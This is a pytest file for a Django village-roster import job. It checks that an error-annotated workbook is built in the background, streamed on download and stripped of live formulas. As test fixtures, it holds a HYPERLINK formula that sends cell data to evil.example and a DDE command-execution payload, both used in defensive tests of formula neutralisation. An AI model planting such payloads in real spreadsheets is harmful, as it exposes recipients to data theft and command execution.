"""Issue 15, items 2 and 4 (first bullet): the annotated error workbook is built by a
background step of the job, with its own progress bar, and stored; the download request
only streams the stored file. What comes back is inert: the uploader's formulas never
reach the downloader live (text Excel would run is kept as text, as every export does).

The world is the `area` fixture (tests/conftest.py). Tasks are queued with
`transaction.on_commit` and run eagerly inside `django_capture_on_commit_callbacks`.
"""

import datetime
import io
import re
import zipfile
from urllib.parse import quote

import pytest
from celery import current_app
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from core import jobs as services
from core.importing import engine
from core.importing.engine import KINDS, annotated_workbook
from core.jobs import import_annotated_progress_set, import_job_annotate, import_jobs_reap
from core.models import ImportJob
from tests.imports.area_sheets import HEADERS
from tests.imports.area_sheets import free_code as _free_code
from tests.imports.area_sheets import roster_xlsx as _xlsx
from tests.imports.area_sheets import village_row as _row
from tests.imports.builders import Formula, SheetBuilder, csv_bytes
from villages.services import import_job_confirm, import_job_create

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.filterwarnings("ignore:No directory at:UserWarning"),
]

RED = "FFC7CE"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"


# ----- private helpers -----


def _create(capture, actor, data, name="村名册.xlsx", *, execute=True) -> ImportJob:
    with capture(execute=execute):
        job = import_job_create(actor=actor, kind="villages", upload=SimpleUploadedFile(name, data))
    job.refresh_from_db()
    return job


def _pending(capture, actor, data) -> ImportJob:
    """A validated job whose annotated workbook step is queued but has not run."""
    with pytest.MonkeyPatch.context() as mp, capture(execute=True):
        mp.setitem(current_app.tasks, _NotRun.name, _NotRun())
        job = import_job_create(
            actor=actor, kind="villages", upload=SimpleUploadedFile("村名册.xlsx", data)
        )
    job.refresh_from_db()
    assert (job.state, job.annotated_state) == ("previewed", "pending")
    return job


class _NotRun:
    """Stands for the annotate task: queued, never run (a busy or lost worker)."""

    name = "core.tasks.import_job_annotate"
    app = current_app

    def delay(self, *args, **kwargs):
        pass

    apply_async = delay


def _bad_rows_file(area) -> bytes:
    return _xlsx(
        [
            _row(area.villages["a1v1"]),
            _row(area.villages["a1v2"], code="12345"),
            _row(area.villages["a1v3"], kind="乡村"),
        ]
    )


def _workbook(job: ImportJob):
    with job.annotated.open("rb") as fh:
        return load_workbook(io.BytesIO(fh.read()))


# ----- built by the job, streamed by the request -----


def test_validation_queues_the_workbook_step_which_stores_the_marked_workbook(
    city_admin, area, django_capture_on_commit_callbacks
):
    # when
    job = _create(django_capture_on_commit_callbacks, city_admin, _bad_rows_file(area))

    # then: the preview, and the workbook built and stored by its own step
    assert job.state == ImportJob.State.PREVIEWED
    assert job.annotated_state == ImportJob.Annotation.DONE
    ws = _workbook(job)["村名册"]
    error_col = len(HEADERS) + 1
    assert ws.cell(row=1, column=error_col).value == "错误说明"
    code = ws.cell(row=3, column=HEADERS.index("统计用区划代码") + 1)
    assert (code.value, code.fill.fgColor.rgb[-6:]) == ("12345", RED)
    assert "应为 12 位数字" in code.comment.text
    assert "类型“乡村”不在可选范围内" in ws.cell(row=4, column=error_col).value
    assert ws.cell(row=2, column=error_col).value is None


def test_a_clean_file_gets_no_workbook_step(city_admin, area, django_capture_on_commit_callbacks):
    # when
    job = _create(
        django_capture_on_commit_callbacks, city_admin, _xlsx([_row(area.villages["a1v1"])])
    )

    # then
    assert (job.state, job.annotated_state, job.annotated.name) == ("previewed", "", "")


def test_the_download_streams_the_stored_file_and_builds_nothing(
    client,
    login,
    city_admin,
    area,
    django_capture_on_commit_callbacks,
    monkeypatch,
    django_assert_max_num_queries,
):
    # given: the workbook is built; anything that would build one now fails loudly
    job = _create(django_capture_on_commit_callbacks, city_admin, _bad_rows_file(area))
    with job.annotated.open("rb") as fh:
        stored = fh.read()

    def no_building(*args, **kwargs):
        raise AssertionError("the request built a workbook")

    monkeypatch.setattr(services, "annotated_workbook", no_building)
    monkeypatch.setattr(services, "annotated_sheet_rows", no_building)
    login(client, city_admin)

    # when: session, user, role, job
    with django_assert_max_num_queries(5):
        response = client.get(f"/imports/{job.pk}/annotated/")

    # then
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert quote("村名册-错误标注.xlsx") in response["Content-Disposition"]
    assert b"".join(response.streaming_content) == stored


def test_while_the_workbook_is_built_the_page_shows_its_progress_and_reloads_when_done(
    client, login, city_admin, area, django_capture_on_commit_callbacks
):
    # given: the preview is ready, the workbook step 40 % done
    job = _pending(django_capture_on_commit_callbacks, city_admin, _bad_rows_file(area))
    import_annotated_progress_set(job.pk, 40)
    login(client, city_admin)

    # when
    page = client.get(f"/imports/{job.pk}/").content.decode()
    poll = client.get(f"/imports/{job.pk}/?poll=annotated", headers={"HX-Request": "true"})
    early = client.get(f"/imports/{job.pk}/annotated/", follow=True)

    # then: the preview, the workbook's progress bar polling, no link yet
    assert "正在生成错误标注的工作簿…" in page
    assert f'hx-get="/imports/{job.pk}/?poll=annotated"' in page
    assert "下载错误标注的工作簿" not in page
    assert re.search(r'<progress[^>]*value="40"', poll.content.decode())
    assert early.redirect_chain == [(f"/imports/{job.pk}/", 302)]
    assert "错误标注的工作簿正在生成，请稍候再下载。" in early.content.decode()

    # when: the step runs
    import_job_annotate(job_id=job.pk)
    done = client.get(f"/imports/{job.pk}/?poll=annotated", headers={"HX-Request": "true"})

    # then: the poll reloads the page, which now offers the download
    assert done["HX-Refresh"] == "true"
    assert "下载错误标注的工作簿" in client.get(f"/imports/{job.pk}/").content.decode()


def test_a_workbook_step_that_fails_leaves_the_preview_and_says_so(
    client, login, city_admin, area, django_capture_on_commit_callbacks, monkeypatch
):
    # given
    job = _pending(django_capture_on_commit_callbacks, city_admin, _bad_rows_file(area))

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(services, "annotated_workbook", broken)

    # when
    with pytest.raises(RuntimeError):
        import_job_annotate(job_id=job.pk)

    # then
    job.refresh_from_db()
    assert (job.state, job.annotated_state) == ("previewed", "failed")
    login(client, city_admin)
    page = client.get(f"/imports/{job.pk}/").content.decode()
    assert "错误标注的工作簿未能生成；错误已在下表列出。" in page
    assert "统计用区划代码“12345”" in page
    assert client.get(f"/imports/{job.pk}/annotated/").status_code == 404


def test_a_workbook_step_lost_for_over_30_minutes_is_given_up(
    city_admin, area, django_capture_on_commit_callbacks
):
    # given
    job = _pending(django_capture_on_commit_callbacks, city_admin, _bad_rows_file(area))
    ImportJob.objects.filter(pk=job.pk).update(
        updated_at=timezone.now() - datetime.timedelta(minutes=31)
    )

    # when
    import_jobs_reap(job_id=job.pk)

    # then: given up; a late task then leaves it alone
    job.refresh_from_db()
    assert job.annotated_state == ImportJob.Annotation.FAILED
    assert import_job_annotate(job_id=job.pk).annotated.name == ""


def test_a_redelivered_workbook_step_builds_nothing_twice(
    city_admin, area, django_capture_on_commit_callbacks, monkeypatch
):
    # given
    job = _create(django_capture_on_commit_callbacks, city_admin, _bad_rows_file(area))
    name = job.annotated.name

    def no_building(*args, **kwargs):
        raise AssertionError("built twice")

    monkeypatch.setattr(services, "annotated_workbook", no_building)

    # when
    again = import_job_annotate(job_id=job.pk)

    # then
    assert again.annotated.name == name


def test_errors_found_at_commit_time_get_a_workbook_of_their_own(
    city_admin, area, django_capture_on_commit_callbacks
):
    # given: a clean preview (no workbook); then the township is renamed, so the file no
    # longer matches the database
    township = area.townships["A1"]
    code = _free_code(township)
    data = _xlsx([[township.county.name, township.name, "新村", code, "行政村", 10, 20]])
    job = _create(django_capture_on_commit_callbacks, city_admin, data)
    assert (job.summary["errors"], job.annotated_state) == (0, "")
    type(township).objects.filter(pk=township.pk).update(name="甲一镇改名")

    # when
    with django_capture_on_commit_callbacks(execute=True):
        import_job_confirm(actor=city_admin, job=job)

    # then: failed, and the workbook marks the error the commit found
    job.refresh_from_db()
    assert job.state == ImportJob.State.FAILED
    assert job.annotated_state == ImportJob.Annotation.DONE
    ws = _workbook(job)["村名册"]
    assert "甲一镇" in ws.cell(row=2, column=len(HEADERS) + 1).value
    assert ws.cell(row=2, column=2).fill.fgColor.rgb[-6:] == RED


def test_rows_keep_their_numbers_across_title_and_blank_rows(
    city_admin, area, django_capture_on_commit_callbacks
):
    # given: a title row, two blank rows, the header on row 4, the bad row on row 7
    sheet = SheetBuilder("村名册")
    sheet.title("许昌市村(社区)花名册", span=len(HEADERS))
    sheet.blank(2)
    assert sheet.row(HEADERS) == 4
    sheet.row(_row(area.villages["a1v1"]))
    sheet.blank(1)
    bad = sheet.row(_row(area.villages["a1v2"], code="999"))
    job = _create(django_capture_on_commit_callbacks, city_admin, sheet.to_bytes())
    assert job.preview["issues"][0]["row"] == bad == 7

    # when
    ws = _workbook(job)["村名册"]

    # then
    assert ws.cell(row=1, column=1).value == "许昌市村(社区)花名册"
    assert ws.cell(row=4, column=len(HEADERS) + 1).value == "错误说明"
    code = ws.cell(row=bad, column=HEADERS.index("统计用区划代码") + 1)
    assert (code.value, code.fill.fgColor.rgb[-6:]) == ("999", RED)
    assert ws.cell(row=bad, column=3).value == area.villages["a1v2"].name


# ----- inert: no formula of the uploader reaches the downloader live -----


def _formulas_and_texts(data: bytes) -> tuple[list[str], bytes]:
    """Every formula cell of every sheet, and all the XML of the package."""
    formulas, xml = [], b""
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        formulas += [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            xml += zf.read(name)
    return formulas, xml


def test_formulas_in_an_uploaded_xlsx_come_back_inert(
    client, login, county_official, city_admin, area, django_capture_on_commit_callbacks
):
    # given: a county official's workbook whose bad rows carry a live HYPERLINK formula and
    # texts Excel would run (a DDE call, and the other formula prefixes)
    a1 = area.townships["A1"]
    sheet = SheetBuilder("村名册")
    sheet.row(HEADERS)
    sheet.row([a1.county.name, a1.name, Formula(HYPERLINK, "点此查看"), "123", "行政村", 1, 2])
    sheet.row([a1.county.name, a1.name, Formula(f'="{DDE}"', DDE), "456", "@SUM(1+1)", "+1+1", 2])
    job = _create(django_capture_on_commit_callbacks, county_official, sheet.to_bytes())
    assert job.summary["error_rows"] == 2
    login(client, city_admin)

    # when: the city admin downloads the workbook
    response = client.get(f"/imports/{job.pk}/annotated/")
    data = b"".join(response.streaming_content)

    # then: no formula anywhere, the link target nowhere, the texts kept as text
    formulas, xml = _formulas_and_texts(data)
    assert formulas == []
    assert b"evil.example" not in xml
    assert b"HYPERLINK" not in xml
    ws = load_workbook(io.BytesIO(data))["村名册"]
    assert ws.cell(row=2, column=3).value == "点此查看"
    assert ws.cell(row=3, column=3).value == "'" + DDE
    assert ws.cell(row=3, column=5).value == "'@SUM(1+1)"
    assert ws.cell(row=3, column=6).value == "'+1+1"


def test_formula_text_from_a_csv_comes_back_inert(
    county_official, area, django_capture_on_commit_callbacks
):
    # given
    a1 = area.townships["A1"]
    data = csv_bytes([[a1.county.name, a1.name, DDE, "789", "-2+3", "=1+2", 2]], headers=HEADERS)

    # when
    job = _create(django_capture_on_commit_callbacks, county_official, data, "名册.csv")

    # then
    assert job.annotated_state == ImportJob.Annotation.DONE, job.preview
    with job.annotated.open("rb") as fh:
        data = fh.read()
    formulas, xml = _formulas_and_texts(data)
    assert formulas == []
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.title == "导入数据"
    assert [ws.cell(row=2, column=c).value for c in (3, 5, 6)] == ["'" + DDE, "'-2+3", "'=1+2"]


def test_control_characters_the_format_cannot_carry_are_dropped():
    # given: cell values as a reader might hand them over
    kind = KINDS["villages"]
    layout = {"sheet": "村名册", "header_row": 1, "columns": {"name": 0}, "fmt": "xlsx"}
    issues = [{"row": 2, "column": "村(社区)名称", "message": "名称“\x07村”有误"}]
    rows = [(1, ("村(社区)名称",)), (2, ("\x07村\x1f", DDE))]
    out = io.BytesIO()

    # when
    annotated_workbook(kind, layout, issues, rows, out)

    # then
    ws = load_workbook(io.BytesIO(out.getvalue()))["村名册"]
    assert [ws.cell(row=2, column=c).value for c in (1, 2)] == ["村", "'" + DDE]
    assert ws.cell(row=2, column=3).value == "村(社区)名称: 名称“村”有误"
    assert ws.cell(row=2, column=1).fill.fgColor.rgb[-6:] == RED


def test_beyond_the_comment_limit_bad_cells_stay_red_and_the_error_column_says_it_all(
    monkeypatch,
):
    # given: three bad cells, notes allowed on two
    monkeypatch.setattr(engine, "MAX_COMMENTS", 2)
    kind = KINDS["villages"]
    layout = {"sheet": "村名册", "header_row": 1, "columns": {"code": 0}, "fmt": "xlsx"}
    issues = [
        {"row": row, "column": "统计用区划代码", "message": f"第{row}行的代码有误"}
        for row in (2, 3, 4)
    ]
    rows = [(1, ("统计用区划代码",)), (2, ("1",)), (3, ("2",)), (4, ("3",))]
    out = io.BytesIO()

    # when
    annotated_workbook(kind, layout, issues, rows, out)

    # then
    ws = load_workbook(io.BytesIO(out.getvalue()))["村名册"]
    cells = [ws.cell(row=row, column=1) for row in (2, 3, 4)]
    assert [c.fill.fgColor.rgb[-6:] for c in cells] == [RED] * 3
    assert [c.comment is not None for c in cells] == [True, True, False]
    assert ws.cell(row=4, column=2).value == "统计用区划代码: 第4行的代码有误"
